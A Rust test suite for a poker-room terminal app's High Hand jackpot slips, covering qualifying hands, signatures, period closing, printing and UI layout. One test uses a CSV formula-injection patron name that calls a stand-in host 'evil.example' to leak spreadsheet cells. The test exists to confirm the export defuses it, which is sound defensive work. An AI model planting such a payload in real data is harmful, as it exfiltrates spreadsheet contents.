//! The High Hand Tracking Slip (§ 637a.16(f)): lines recorded with a floorperson's signature
//! (full house or better, never below the period's high hand), the supervisors' view, the slip and
//! its PDF with the five required fields, REPRINT on a second print; and the form through the
//! real UI.

use crate::common;

use deckhand::rules::cards::parse_cards;
use deckhand::rules::table::{Command, Confirm, TableSetup};
use deckhand::store::Store;
use deckhand::terminal::Terminal;
use deckhand::ui::DeckhandApp;
use egui_kittest::Harness;
use egui_kittest::kittest::NodeT;
use egui_kittest::kittest::Queryable;

fn setup() -> TableSetup {
    deckhand::demo::fixed_limit_table(6)
}

fn open(db: &std::path::Path) -> Terminal {
    let mut t = Terminal::open(Store::open(db).unwrap(), None).unwrap();
    t.seed_demo_people().unwrap();
    t.sign_in("Alex Rivera", "20417", "112233").unwrap();
    t.execute(Command::OpenTable(setup())).unwrap();
    t.execute(Command::Confirm(Confirm::DecksInspected))
        .unwrap();
    t.verify("1001", "246810").unwrap();
    t
}

/// Seat 3's kings full of fours in `period`, the floorperson signing: the line's number.
fn rosas_full_house(t: &mut Terminal, period: &str) -> Result<u32, String> {
    t.record_high_hand(
        period,
        3,
        "Rosa Diaz",
        "2155550142",
        parse_cards("Kh Kd Kc 4s 4h").unwrap(),
        "1001",
        "246810",
    )
}

/// On the form's pad, the floorperson signs and closes the period from 2026-01-05T08:00Z.
fn dana_closes_the_period_from_2026_01_05(h: &mut Harness<'_, DeckhandApp>) {
    crate::common::ui::keys(h, "1001");
    h.get_by_label_contains("PIN:").click();
    h.run_ok();
    crate::common::ui::keys(h, "246810");
    crate::common::ui::tap(h, "Close period 2026-01-05T08:00Z");
    h.get_by_label_contains("High Hand period from 2026-01-05T08:00Z closed by Dana Brooks (1001)");
}

/// line, player, phone, hand, seat, dealer, floor credential, period
type SlipRow = (i64, String, String, String, i64, String, String, String);

#[test]
fn slip_lines_rise_within_a_period_and_print_with_every_field() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("hh.sqlite");
    let mut t = open(&db);
    let p1 = "2026-11-22T07:00Z";
    let hand = |s: &str| parse_cards(s).unwrap();
    let rec = |t: &mut Terminal, period: &str, cards: &str, floor: (&str, &str)| {
        t.record_high_hand(
            period,
            3,
            "Rosa Diaz",
            "2155550142",
            hand(cards),
            floor.0,
            floor.1,
        )
    };
    // A full house, then a lower one refused, a pair refused, the dealer cannot sign.
    assert_eq!(
        rec(&mut t, p1, "Kh Kd Kc 4s 4h 9c 2d", ("1001", "246810")),
        Ok(1)
    );
    let e = rec(&mut t, p1, "Qh Qd Qc 4s 4d", ("1001", "246810")).unwrap_err();
    assert!(
        e.contains("lower than this period's high hand") && e.contains("§ 637a.16(f)"),
        "{e}"
    );
    let e = rec(&mut t, p1, "Ah Ad 9c 4s 2h", ("1001", "246810")).unwrap_err();
    assert!(e.contains("not a qualifying high hand"), "{e}");
    let e = t
        .record_high_hand(
            p1,
            3,
            "Rosa Diaz",
            "12a",
            hand("As Ad Ac 4s 4h"),
            "1001",
            "246810",
        )
        .unwrap_err();
    assert!(e.contains("phone number"), "{e}");
    let e = rec(&mut t, p1, "As Ad Ac 4s 4h", ("20533", "000000")).unwrap_err();
    assert!(!e.is_empty());
    // The next higher hand: four of a kind, by a supervisor ("or above").
    assert_eq!(
        t.record_high_hand(
            p1,
            8,
            "Sam Ortiz",
            "6105550199",
            hand("9h 9d 9c 9s 2h"),
            "3001",
            "135790"
        ),
        Ok(2)
    );
    // A new period starts over: a full house is recorded again.
    assert_eq!(
        rec(
            &mut t,
            "2026-11-22T08:00Z",
            "Qh Qd Qc 4s 4d",
            ("1001", "246810")
        ),
        Ok(3)
    );
    drop(t);

    let conn = rusqlite::Connection::open(&db).unwrap();
    let rows: Vec<SlipRow> = conn
        .prepare("SELECT line, player_name, player_phone, hand, seat, dealer_name, floor_credential, period FROM high_hand_slips ORDER BY line")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?, r.get(4)?, r.get(5)?, r.get(6)?, r.get(7)?)))
        .unwrap()
        .map(|r| r.unwrap())
        .collect();
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[0].3, "Full house, kings full of fours");
    assert_eq!(rows[1].6, "3001");
    assert_eq!(rows[0].5, "Alex Rivera");

    // The slip of the first period: the five fields of § 637a.16(f), a document number, REPRINT.
    let mut store = Store::open(&db).unwrap();
    let slip = deckhand::print::high_hand_document(&mut store, 6, p1, None).unwrap();
    assert!(!slip.reprint);
    let no = slip.number;
    let text = slip.text();
    let fields = [
        "Player: Rosa Diaz",
        "Phone: 2155550142",
        "Seat: 3",
        "Table: 6",
        "Hand: Full house, kings full of fours",
        "K♥ K♦ K♣ 4♠ 4♥",
        "Dealer: Alex Rivera (20417)",
        "Verified by: Dana Brooks (1001)",
        "Verified by: Morgan Lee (3001)",
        "Signature: ___",
        &format!("High Hand Tracking Slip No. {no}"),
        "§ 637a.16(f)",
    ];
    for field in fields {
        assert!(text.contains(field), "{field} missing from:\n{text}");
    }
    assert!(
        !text.contains("Queens"),
        "the other period's line is not on this slip"
    );
    // The PDF says the same, read back by a PDF parser (suits and § included).
    let pdf = deckhand::print::pdf::render(&slip, deckhand::print::Paper::Letter).unwrap();
    if let Ok(out) = std::env::var("DECKHAND_SLIP_PDF") {
        // .ci/run checks this file with a real PDF reader (pdftotext).
        std::fs::write(out, &pdf).unwrap();
    }
    let read = common::pdf::text(&pdf);
    for field in fields {
        assert!(
            read.contains(field),
            "{field} missing from the PDF:\n{read}"
        );
    }
    let (no2, reprint, pdf) = deckhand::print::high_hand_slip(&mut store, 6, p1, None).unwrap();
    assert!(reprint && no2 > no);
    assert!(common::pdf::text(&pdf).starts_with("REPRINT - High Hand Tracking Slip No. "));
    assert!(deckhand::print::high_hand_slip(&mut store, 6, "2026-01-01T00:00Z", None).is_err());
    let printed: i64 = conn
        .query_row(
            "SELECT COUNT(*) FROM documents_printed WHERE reprint = 1",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(printed, 1);
}

#[test]
fn the_floorperson_records_a_high_hand_on_the_screen() {
    // At 1024×768 too: the form's actions stay on the screen whatever the field shows (a
    // keyboard, the card grid, the signature pad), and every card of the grid can be tapped.
    for (w, hgt) in [(1280.0, 800.0), (1024.0, 768.0)] {
        records_a_high_hand_at(w, hgt);
    }
}

fn records_a_high_hand_at(w: f32, hgt: f32) {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("ui.sqlite");
    let t = open(&db);
    let app = DeckhandApp::new(t, setup(), None);
    let mut h = Harness::builder()
        .with_size(egui::vec2(w, hgt))
        .build_ui_state(
            |ui, app: &mut DeckhandApp| {
                app.logic(ui.ctx());
                app.show(ui);
            },
            app,
        );
    let tap = |h: &mut Harness<'_, DeckhandApp>, label: &str| {
        h.get_by_label(label).click();
        h.run_ok();
        crate::common::ui::wait_for_pin_check(h);
    };
    let on_screen = |h: &Harness<'_, DeckhandApp>, label: &str| {
        let r = h.get_by_label(label).rect();
        assert!(
            r.min.y >= 0.0 && r.max.y <= hgt && r.max.x <= w,
            "{w}x{hgt}: {label} at {r:?}"
        );
    };
    let actions = |h: &Harness<'_, DeckhandApp>| {
        for label in ["Record and sign", "Cancel", "Print slip"] {
            on_screen(h, label);
        }
    };
    h.run_ok();
    tap(&mut h, "High hand");
    h.get_by_label("High Hand Tracking Slip");
    actions(&h);
    // A table that never dealt a round has no ended period to close.
    assert!(
        h.query_by_label_contains("Close period").is_none(),
        "{w}x{hgt}: an empty period offered to close"
    );
    tap(&mut h, "Seat 4");
    for k in ["L", "E", "E"] {
        tap(&mut h, k);
    }
    h.get_by_label_contains("Phone:").click();
    h.run_ok();
    actions(&h);
    for k in "2155550100".chars() {
        tap(&mut h, &k.to_string());
    }
    h.get_by_label_contains("Hand:").click();
    h.run_ok();
    actions(&h);
    for rank in [
        "A", "K", "Q", "J", "10", "9", "8", "7", "6", "5", "4", "3", "2",
    ] {
        for suit in ["♠", "♥", "♦", "♣"] {
            on_screen(&h, &format!("{rank}{suit}"));
        }
    }
    for c in ["7♥", "7♦", "7♣", "K♠", "K♥"] {
        tap(&mut h, c);
    }
    h.get_by_label("Floorperson signs").click();
    h.run_ok();
    actions(&h);
    // The signature's keypad whole above the actions.
    let keys_end = h.get_by_label("0").rect().max.y;
    assert!(
        keys_end <= h.get_by_label("Record and sign").rect().min.y,
        "{w}x{hgt}: the keypad runs under the actions"
    );
    for k in "1001".chars() {
        tap(&mut h, &k.to_string());
    }
    h.get_by_label_contains("PIN:").click();
    h.run_ok();
    for k in "246810".chars() {
        tap(&mut h, &k.to_string());
    }
    tap(&mut h, "Record and sign");
    if h.query_by_label_contains("High Hand Tracking Slip line 1 recorded")
        .is_none()
    {
        let said: Vec<String> = h
            .query_all_by_label_contains("⚠")
            .map(|n| format!("{n:?}"))
            .collect();
        panic!("{w}x{hgt}: not recorded: {said:?}");
    }
    h.get_by_label_contains("High Hand Tracking Slip line 1 recorded for seat 4");
    drop(h);
    let conn = rusqlite::Connection::open(&db).unwrap();
    let (name, hand, floor): (String, String, String) = conn
        .query_row(
            "SELECT player_name, hand, floor_credential FROM high_hand_slips",
            [],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
        )
        .unwrap();
    assert_eq!(
        (name.as_str(), hand.as_str(), floor.as_str()),
        ("Lee", "Full house, sevens full of kings", "1001")
    );
}

/// A patron's name a spreadsheet would run (`=HYPERLINK(...)`) is recorded as keyed, and the
/// supervisor's CSV export (`deckhand export`, the same writer as the review's) hands it over as
/// text: read back by a real CSV reader, no cell starts with a formula character.
#[test]
fn a_formula_for_a_name_on_a_high_hand_slip_is_exported_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("hh.sqlite");
    let name = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Rosa")"#;
    {
        let mut t = open(&db);
        let line = t.record_high_hand(
            "2026-11-22T07:00Z",
            3,
            name,
            "2155550142",
            parse_cards("Kh Kd Kc 4s 4h").unwrap(),
            "1001",
            "246810",
        );
        assert_eq!(line, Ok(1));
    }
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_deckhand"))
        .args(["export", "--db", db.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(out.stdout.as_slice());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect();
    assert!(cells.len() > 13, "the export has rows");
    for c in &cells {
        assert!(
            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {c:?}"
        );
    }
    // The record keeps the name exactly as keyed, inside the row's payload.
    let payloads: Vec<serde_json::Value> = cells
        .iter()
        .filter(|c| c.starts_with('{'))
        .map(|c| serde_json::from_str(c).unwrap())
        .collect();
    assert!(
        payloads.iter().any(|p| p
            .to_string()
            .contains(&serde_json::to_string(name).unwrap()[1..20])),
        "the slip line keeps the keyed name"
    );
}

#[test]
fn a_high_hand_qualifies_only_with_the_posted_number_of_players_dealt_in() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("min.sqlite");
    let mut s = crate::common::ui::table(6, deckhand::rules::games::GameId::Holdem);
    s.pot_rules.high_hand_min_players = 4;
    let mut t = crate::common::ui::opened(&db, &s);
    let rec = |t: &mut Terminal| rosas_full_house(t, "2026-11-24T10:00Z");
    // Three players dealt in: short of the posted four (§ 637a.16(b)(4)).
    crate::common::poker::fold_round(&mut t, &[1, 2, 3]);
    let e = rec(&mut t).unwrap_err();
    assert!(
        e.contains("3 players dealt in") && e.contains("637a.16(b)(4)"),
        "{e}"
    );
    t.execute(Command::Confirm(Confirm::ShuffledAndCut))
        .unwrap();
    crate::common::poker::fold_round(&mut t, &[1, 2, 3, 4]);
    assert_eq!(rec(&mut t), Ok(1));
    drop(t);
    assert_eq!(
        deckhand::store::replay::read_table(&db).unwrap().dealt_in,
        4
    );
    // § 637a.16(b)(4): the posted fewest players is `[high_hand] min_players`, and it reaches
    // the table; fewer than two is refused.
    let mut c =
        deckhand::config::Config::parse(deckhand::config::DEFAULT_TOML, "embedded").unwrap();
    c.high_hand.min_players = 4;
    assert_eq!(c.table_setup().pot_rules.high_hand_min_players, 4);
    c.high_hand.min_players = 1;
    assert!(c.validate().unwrap_err().contains("637a.16(b)(4)"));
    // § 637a.16(b)(1): the qualifying period's length is `[high_hand] period_minutes`.
    let half_hour = deckhand::config::HighHandConfig {
        period_minutes: 30,
        ..Default::default()
    };
    let hour = deckhand::config::HighHandConfig::default();
    assert_eq!(
        half_hour.period_after("2026-11-22T07:00Z").as_deref(),
        Some("2026-11-22T07:30Z")
    );
    assert_eq!(
        hour.period_after("2026-11-22T07:00Z").as_deref(),
        Some("2026-11-22T08:00Z")
    );
}

/// A Hold'em table taking 50 cents for the High Hand from each pot, one round played: the
/// terminal, the hour-long period the round was played in and the next.
fn a_round_with_a_contribution(db: &std::path::Path) -> (Terminal, String, String) {
    let mut s = crate::common::ui::table(6, deckhand::rules::games::GameId::Holdem);
    s.pot_rules.high_hand = 50;
    let mut t = crate::common::ui::opened(db, &s);
    crate::common::poker::fold_round(&mut t, &[1, 2, 3]);
    let hour = deckhand::config::HighHandConfig::default();
    let p1 = hour.period_of(chrono::Utc::now());
    let p2 = hour.period_after(&p1).unwrap();
    (t, p1, p2)
}

#[test]
fn an_ended_period_is_closed_its_high_hand_awarded_or_the_pool_rolled_over() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("close.sqlite");
    let (mut t, p1, p2) = a_round_with_a_contribution(&db);
    let hour = deckhand::config::HighHandConfig::default();
    let p3 = hour.period_after(&p2).unwrap();
    // As if a day had passed: every period named here has ended.
    let later = "2099-01-01T00:00Z";
    let c1 = t.high_hand_contributions(&p1, &p2).unwrap();
    assert!(c1 > 0, "the round's contribution is counted in its period");
    assert_eq!(t.high_hand_contributions(&p2, &p3).unwrap(), 0);
    let rec = |t: &mut Terminal, period: &str, seat: u8, cards: &str| {
        t.record_high_hand(
            period,
            seat,
            "Rosa Diaz",
            "2155550142",
            parse_cards(cards).unwrap(),
            "1001",
            "246810",
        )
    };
    // The running period cannot be closed; a dealer cannot sign the close.
    let e = t
        .close_high_hand_period(&p1, &p2, &p1, "1001", "246810")
        .unwrap_err();
    assert!(e.contains("has not ended"), "{e}");
    assert!(
        t.close_high_hand_period(&p1, &p2, later, "20533", "445566")
            .is_err()
    );
    // Period 1: no full house: its contributions roll over (§ 637a.16(h)).
    let said = t
        .close_high_hand_period(&p1, &p2, later, "1001", "246810")
        .unwrap();
    assert!(said.contains("rolls over"), "{said}");
    assert_eq!(t.table().high_hand_rollover, c1);
    // Closed once: again refused, and a slip for it too.
    let e = t
        .close_high_hand_period(&p1, &p2, later, "1001", "246810")
        .unwrap_err();
    assert!(e.contains("is closed"), "{e}");
    let e = rec(&mut t, &p1, 3, "Kh Kd Kc 4s 4h").unwrap_err();
    assert!(e.contains("is closed"), "{e}");
    // Period 2: aces full beats kings full and takes the rollover.
    rec(&mut t, &p2, 3, "Kh Kd Kc 4s 4h").unwrap();
    rec(&mut t, &p2, 5, "Ah Ad Ac 4c 4d").unwrap();
    let said = t
        .close_high_hand_period(&p2, &p3, later, "1001", "246810")
        .unwrap();
    assert!(
        said.contains("aces full") && said.contains("seat 5"),
        "{said}"
    );
    assert!(said.contains(&deckhand::rules::money(c1)), "{said}");
    assert_eq!(t.table().high_hand_rollover, 0);
    assert!(t.table().high_hand_slips.is_empty());
    // Closing and reopening the table keeps the periods as they are.
    t.execute(Command::CloseTable).unwrap();
    assert_eq!(t.table().high_hand_closed.as_deref(), Some(p2.as_str()));
    drop(t);
    let closed = crate::common::ui::payloads(&db, "high_hand_period_closed");
    assert_eq!(closed.len(), 2);
    assert!(closed[0].contains("\"winners\":[]"), "{}", closed[0]);
    assert!(closed[1].contains("\"winners\":[["), "{}", closed[1]);
    let rebuilt = deckhand::store::replay::read_table(&db).unwrap();
    assert_eq!(rebuilt.high_hand_closed.as_deref(), Some(p2.as_str()));
}

/// § 637a.16(c): the screen's close of a period reads its contributions apart, while the
/// signature's PIN is checked (`Terminal::begin_contributions_read`); the close takes that
/// answer and runs no SQL of its own on the screen's thread. Shown by a pot pushed after the
/// read: the close records what was read when it was asked for.
#[test]
fn a_periods_close_takes_its_contributions_read_apart() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("close-apart.sqlite");
    let (mut t, p1, p2) = a_round_with_a_contribution(&db);
    let hour = deckhand::config::HighHandConfig::default();
    let c1 = t.high_hand_contributions(&p1, &p2).unwrap();
    assert!(c1 > 0);
    t.begin_contributions_read(&p1, &p2, Box::new(|| {}));
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    while t.contributions_reading() {
        assert!(std::time::Instant::now() < deadline, "never answered");
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    crate::common::poker::to_next_round(&mut t);
    crate::common::poker::fold_round(&mut t, &[1, 2, 3]);
    if hour.period_of(chrono::Utc::now()) != p1 {
        eprintln!("the hour turned during the test: its second pot is another period's");
        return;
    }
    assert_eq!(t.high_hand_contributions(&p1, &p2).unwrap(), 2 * c1);
    t.close_high_hand_period(&p1, &p2, "2099-01-01T00:00Z", "1001", "246810")
        .unwrap();
    assert_eq!(t.table().high_hand_rollover, c1, "what was read apart");
    // A read for another period is not taken: the close reads its own.
    let p3 = hour.period_after(&p2).unwrap();
    t.begin_contributions_read(&p1, &p2, Box::new(|| {}));
    while t.contributions_reading() {
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    t.close_high_hand_period(&p2, &p3, "2099-01-01T00:00Z", "1001", "246810")
        .unwrap();
    assert_eq!(t.table().high_hand_rollover, c1, "period 2 took nothing");
}

#[test]
fn an_ended_period_is_closed_from_the_high_hand_form() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("close-ui.sqlite");
    let mut t = open(&db);
    // A line in a period long ended.
    rosas_full_house(&mut t, "2026-01-05T08:00Z").unwrap();
    let mut h = crate::common::ui::harness(DeckhandApp::new(t, setup(), None));
    h.run_ok();
    crate::common::ui::tap(&mut h, "High hand");
    h.get_by_label("Floorperson signs").click();
    h.run_ok();
    dana_closes_the_period_from_2026_01_05(&mut h);
    assert!(h.state().terminal().table().high_hand_slips.is_empty());
}

/// § 637a.16(b)(4): a round short of the posted players dealt in can have no High Hand line,
/// and the form says so when it opens, with no field to key (a walk keyed 36 taps of a slip
/// before the refusal); an ended period is still closed from it. A round with enough players
/// offers the slip's fields.
#[test]
fn a_round_short_of_players_says_so_when_the_form_opens_and_still_closes_a_period() {
    let dir = tempfile::tempdir().unwrap();
    let mut s = crate::common::ui::table(6, deckhand::rules::games::GameId::Holdem);
    s.pot_rules.high_hand_min_players = 4;
    let short = dir.path().join("short.sqlite");
    let mut t = crate::common::ui::opened(&short, &s);
    crate::common::poker::fold_round(&mut t, &[1, 2, 3, 4]);
    // A line in a period long ended, from a round that qualified.
    rosas_full_house(&mut t, "2026-01-05T08:00Z").unwrap();
    t.execute(Command::Confirm(Confirm::ShuffledAndCut))
        .unwrap();
    crate::common::poker::fold_round(&mut t, &[1, 2, 3]);
    let mut h =
        crate::common::ui::harness_sized(DeckhandApp::new(t, s.clone(), None), 1024.0, 768.0);
    h.run_ok();
    crate::common::ui::tap(&mut h, "High hand");
    h.get_by_label_contains("No line can be recorded for this round: the round had 3 players dealt in; a High Hand qualifies with 4 or more (§ 637a.16(b)(4)");
    for field in ["Seat 1", "Player: ", "Phone: "] {
        assert!(h.query_by_label(field).is_none(), "{field} offered");
    }
    assert!(
        h.get_by_label("Record and sign")
            .accesskit_node()
            .is_disabled(),
        "Record and sign offered"
    );
    // The floorperson signs on the pad the form shows and closes the ended period.
    dana_closes_the_period_from_2026_01_05(&mut h);
    drop(h);

    let enough = dir.path().join("enough.sqlite");
    let mut t = crate::common::ui::opened(&enough, &s);
    crate::common::poker::fold_round(&mut t, &[1, 2, 3, 4]);
    let mut h = crate::common::ui::harness_sized(DeckhandApp::new(t, s, None), 1024.0, 768.0);
    h.run_ok();
    crate::common::ui::tap(&mut h, "High hand");
    assert!(
        h.query_by_label_contains("No line can be recorded")
            .is_none()
    );
    h.get_by_label("Seat 1");
    assert!(
        !h.get_by_label("Record and sign")
            .accesskit_node()
            .is_disabled()
    );
}

/// § 637a.16(a): the High Hand Jackpot is the casino's to offer. Its button is on the dealer's
/// screen only where the configuration turns it on, the app built as `deckhand` builds it.
#[test]
fn the_high_hand_button_is_there_only_where_the_casino_offers_it() {
    use egui_kittest::kittest::Queryable;
    for enabled in [true, false] {
        let dir = tempfile::tempdir().unwrap();
        let db = dir.path().join("offer.sqlite");
        let mut c = crate::common::ui::real_config(&db);
        c.high_hand.enabled = enabled;
        let app = deckhand::app::build(&c, Default::default(), None).unwrap();
        let mut h = crate::common::ui::harness(app);
        h.run_ok();
        crate::common::play::open_from_sign_in(
            &mut h,
            deckhand::rules::games::GameId::Holdem,
            crate::common::ui::tap,
        );
        crate::common::ui::settle(&mut h);
        // § 637a.16(a): the High Hand slip button is there exactly when `[high_hand] enabled` offers the jackpot.
        assert_eq!(
            h.query_by_label("High hand").is_some(),
            enabled,
            "enabled = {enabled}"
        );
    }
}

/// § 637a.16(a),(c): the High Hand contribution is taken only at a table that offers the High
/// Hand Jackpot payout; a configuration that takes one with `[high_hand] enabled = false` is
/// refused with the key and the section, as a Bad Beat contribution is (§ 637a.15).
#[test]
fn a_high_hand_contribution_is_refused_where_the_table_offers_no_high_hand() {
    let c = deckhand::config::Config::parse(deckhand::config::DEFAULT_TOML, "embedded").unwrap();
    assert!(c.jackpots.high_hand_per_pot_cents > 0 && c.high_hand.enabled);
    let mut off = c.clone();
    off.high_hand.enabled = false;
    let e = off.validate().unwrap_err();
    assert!(
        e.contains("high_hand_per_pot_cents") && e.contains("§ 637a.16"),
        "{e}"
    );
    // No contribution: the table without the High Hand opens.
    off.jackpots.high_hand_per_pot_cents = 0;
    off.validate().unwrap();
}
